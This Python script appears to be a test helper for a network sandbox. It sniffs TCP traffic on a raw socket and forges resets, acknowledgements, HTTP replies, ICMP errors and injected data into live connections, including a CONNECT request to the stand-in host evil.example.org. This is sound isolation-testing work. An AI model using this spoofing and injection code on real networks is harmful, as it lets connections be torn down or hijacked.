"""Rows 30, 31, 41: speaks in others' connections. resets.py far | own | provoked | answer | inject DEVICE PORT OTHER_PORT... | framed DEVICE PORT MAC | unreachable DEVICE PORT | call ADDRESS PORT COUNT | send ADDRESS PORT REQUEST | serve OWN PORT

Reads each segment of PORT on the device, and sends by a raw socket what disturbs its flow: `far` a reset in the far end's name, `own` one from the
sandbox's side, `provoked` an acknowledgement from there, which whoever refuses it may answer with a reset, `answer` data from there, `inject` data to there; `framed` sends such data past the output hook. Says `ready`, and `sent` with
how the first one ended. `unreachable` tells the sandbox's end of each connection that it opens, by ICMP over lo, that nothing is there.
`call` connects, waits a moment, and asks for /healthz, `send` makes one request so; `serve` answers such callers.
"""
import errno
import socket
import struct
import time

from packets import attempt, dispatch, ethernet, ethertype_of, family, icmp, ip, is_six, say, send_frame, send_raw, tcp

WAIT = 0.1
SYN, RST, PSH, ACK = 2, 4, 8, 16


def segments(device, port):
    """Each of the port: whether it comes in, its addresses and ports, the number that follows it, and the one that it acknowledges."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as tap:
        tap.bind((device, 3))
        say(event="ready")
        while True:
            frame, (_, _, kind, _, _) = tap.recvfrom(65535)
            six = frame[12:14] == b"\x86\xdd"
            packet = frame[14:]
            if not six and frame[12:14] != b"\x08\0":
                continue
            length, protocol = (40, packet[6]) if six else ((packet[0] & 15) * 4, packet[9])
            if protocol != 6:
                continue
            total = 40 + struct.unpack_from("!H", packet, 4)[0] if six else struct.unpack_from("!H", packet, 2)[0]
            addresses = [socket.inet_ntop(socket.AF_INET6 if six else socket.AF_INET, packet[at : at + (16 if six else 4)]) for at in ((8, 24) if six else (12, 16))]
            source, destination, sequence, acknowledged, offset, flags = struct.unpack_from("!HHIIBB", packet, length)
            if port not in (source, destination) or flags & RST:
                continue
            following = sequence + total - length - (offset >> 4) * 4 + bool(flags & 2) + bool(flags & 1)
            yield kind != 4, addresses, (source, destination), following % 2**32, acknowledged


def each(device, port, ports, write, send=send_raw):
    """For each segment and each of our ports that its flow may have, as the API's has another one behind the redirect."""
    told = False
    for comes_in, (source, destination), (source_port, port_there), following, acknowledged in segments(device, int(port)):
        if comes_in:
            own, far, theirs, ours = (destination, port_there), (source, source_port), following, acknowledged
        else:
            own, far, theirs, ours = (source, source_port), (destination, port_there), acknowledged, following
        if theirs == 0 or ours == 0:
            continue
        for our_port in (own[1], *map(int, ports)):
            try:
                send(*write((own[0], our_port), far, ours, theirs))
                result = "sent"
            except OSError as error:
                result = error.strerror
            if not told:
                say(event="sent", result=result)
            told = True


def far(device, port, *ports):
    def reset(own, far, _, theirs):
        return ip(far[0], own[0], 6, tcp(*far, *own, RST, sequence=theirs)), own[0]

    each(device, port, ports, reset)


def own(device, port, *ports):
    def reset(own, far, ours, _):
        return ip(own[0], far[0], 6, tcp(*own, *far, RST, sequence=ours)), far[0]

    each(device, port, ports, reset)


def provoked(device, port, *ports):
    def acknowledge(own, far, ours, theirs):
        return ip(own[0], far[0], 6, tcp(*own, *far, ACK, sequence=ours, acknowledged=theirs)), far[0]

    each(device, port, ports, acknowledge)


def answer(device, port, *ports):
    def say_so(own, far, ours, theirs):
        text = b"HTTP/1.1 299 Forged\r\nContent-Length: 0\r\n\r\n"
        return ip(own[0], far[0], 6, tcp(*own, *far, PSH | ACK, text, sequence=ours, acknowledged=theirs)), far[0]

    each(device, port, ports, say_so)


def inject(device, port, *ports):
    def say_more(own, far, ours, theirs):
        return ip(own[0], far[0], 6, tcp(*own, *far, PSH | ACK, b"CONNECT evil.example.org:443 HTTP/1.1\r\n\r\n", sequence=ours, acknowledged=theirs)), far[0]

    each(device, port, ports, say_more)


def framed(device, port, mac):
    def say_more(own, far, ours, theirs):
        data = tcp(*own, *far, PSH | ACK, b"data in a frame" * 4, sequence=ours, acknowledged=theirs)
        return device, ethernet(mac, ethertype_of(own[0]), ip(own[0], far[0], 6, data))

    each(device, port, (), say_more, send_frame)


def unreachable(device, port):
    for comes_in, (source, destination), ports, following, acknowledged in segments(device, int(port)):
        if comes_in or acknowledged != 0:
            continue
        opening = ip(source, destination, 6, tcp(source, ports[0], destination, ports[1], SYN, sequence=following - 1))
        kind, code, protocol = (1, 3, 58) if is_six(source) else (3, 1, 1)
        error = ip(source, source, protocol, icmp(source, source, kind, code, bytes(4), opening))
        try:
            send_raw(error, source)
            say(event="told", result="sent")
        except OSError as refusal:
            say(event="told", result=errno.errorcode[refusal.errno])


def ask(address, port, request):
    with socket.create_connection((address, int(port)), 3) as one:
        time.sleep(WAIT)
        one.send(request)
        return one.recv(999).split(b"\r\n")[0].decode() or "closed"


def call(address, port, count):
    request = b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    for number in range(int(count)):
        attempt(f"call {number}", lambda: ask(address, port, request))


def send(address, port, request):
    attempt("call", lambda: ask(address, port, request.encode()))


def serve(own, port):
    with socket.create_server((own, int(port)), family=family(own), reuse_port=True) as server:
        say(event="ready")
        while True:
            one, _ = server.accept()
            with one:
                try:
                    one.settimeout(20)
                    one.recv(999)
                    one.send(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
                except OSError:
                    pass


dispatch(globals())
